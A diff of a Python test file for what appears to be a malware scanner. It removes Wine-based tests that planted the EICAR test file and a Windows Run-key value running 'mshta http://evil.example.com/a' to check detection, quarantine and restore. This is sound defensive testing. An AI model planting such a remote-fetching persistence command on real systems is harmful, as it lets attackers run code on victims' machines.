@@ -1,4 +1,4 @@
-"""The bundles: the same bytes each time, only files that may be in it; under Wine when `LAMSACH_WINE_BUNDLE` names an unpacked one."""
+"""The bundles: the same bytes each time, only files that may be in it."""
 
 from __future__ import annotations
 
@@ -6,8 +6,6 @@ import argparse
 import ast
 import importlib.util
 import json
-import os
-import subprocess
 import sys
 from pathlib import Path
 from types import ModuleType
@@ -17,20 +15,22 @@ import pytest
 from lamsach.errors import InputError
 from lamsach.scanner.campaign import campaign_lists
 
-from .planted import EICAR
-
 ROOT = Path(__file__).parents[2]
-BUNDLE = os.environ.get("LAMSACH_WINE_BUNDLE", "")
 
 
-@pytest.fixture(scope="module")
-def builder() -> ModuleType:
+def load_builder() -> ModuleType:
+    """The module that builds the bundles."""
     spec = importlib.util.spec_from_file_location("bundle_builder", ROOT / "packaging" / "scanner.py")
     assert spec is not None
     assert spec.loader is not None
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
     return module
+
+
+@pytest.fixture(scope="module")
+def builder() -> ModuleType:
+    return load_builder()
 
 
 def test_the_same_bytes(builder: ModuleType) -> None:
@@ -104,76 +104,3 @@ def test_a_signed_list(builder: ModuleType, tmp_path: Path, change: str) -> None
             campaign_lists(folder, public)
     else:
         assert campaign_lists(folder, public) == [str(folder / "list.txt")]
-
-
-@pytest.mark.skipif(not BUNDLE, reason="LAMSACH_WINE_BUNDLE names no unpacked Windows bundle")
-class TestWine:
-    """The Windows bundle itself."""
-
-    @pytest.fixture(scope="class")
-    def prefix(self, tmp_path_factory: pytest.TempPathFactory) -> Path:
-        return tmp_path_factory.mktemp("wine")
-
-    def run(self, prefix: Path, *words: str) -> subprocess.CompletedProcess[str]:
-        variables = {
-            **os.environ,
-            "WINEPREFIX": str(prefix),
-            "WINEDEBUG": "-all",
-            "WINEDLLOVERRIDES": "mscoree,mshtml=",
-            "LC_ALL": "C.UTF-8",
-        }
-        command = ["wine", f"{BUNDLE}/python/python.exe", "-X", "utf8", "-m", "lamsach_scanner", *words]
-        return subprocess.run(
-            command, env=variables, capture_output=True, text=True, timeout=180, check=False
-        )
-
-    def test_clean_and_undo(self, prefix: Path) -> None:
-        self.run(prefix, "--version")
-        folder = prefix / "drive_c" / "Đơn vị"
-        folder.mkdir(parents=True)
-        file = folder / "bad.com"
-        file.write_bytes(EICAR)
-        os.utime(file, (10**9, 10**9))
-        ran = self.run(
-            prefix, "scan", r"C:\Đơn vị", "--jobs", "2", "--language", "en", "--quarantine", "--yes"
-        )
-        assert "second look does not find it" in ran.stdout, ran.stderr
-        assert not file.exists()
-        assert self.run(prefix, "quarantine", "restore", "--all", "--yes").returncode == 0
-        assert file.read_bytes() == EICAR
-        assert file.stat().st_mtime == 10**9
-
-    def test_a_run_key(self, prefix: Path) -> None:
-        key = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
-        variables = {**os.environ, "WINEPREFIX": str(prefix), "WINEDEBUG": "-all"}
-        command = "mshta http://evil.example.com/a"
-        subprocess.run(
-            ["wine", "reg", "add", key, "/v", "Bad", "/d", command, "/f"],
-            env=variables,
-            check=True,
-            capture_output=True,
-        )
-        (prefix / "drive_c" / "list.txt").write_text("evil.example.com\n")
-        words = (
-            "scan",
-            "--quick",
-            "--no-memory",
-            "--time-limit",
-            "60",
-            "--jobs",
-            "0",
-            "-i",
-            r"C:\list.txt",
-            "--language",
-            "en",
-        )
-        ran = self.run(prefix, *words, "--quarantine", "--yes")
-        assert "take the registry value away - done" in ran.stdout, ran.stdout + ran.stderr
-        # What Wine's tools do not say is told, and is not clean.
-        assert "WMI root/subscription" in ran.stdout
-        query = ["wine", "reg", "query", key, "/v", "Bad"]
-        assert subprocess.run(query, env=variables, capture_output=True, check=False).returncode != 0
-        assert self.run(prefix, "quarantine", "restore", "--all", "--yes").returncode == 0
-        assert (
-            command in subprocess.run(query, env=variables, capture_output=True, check=True, text=True).stdout
-        )
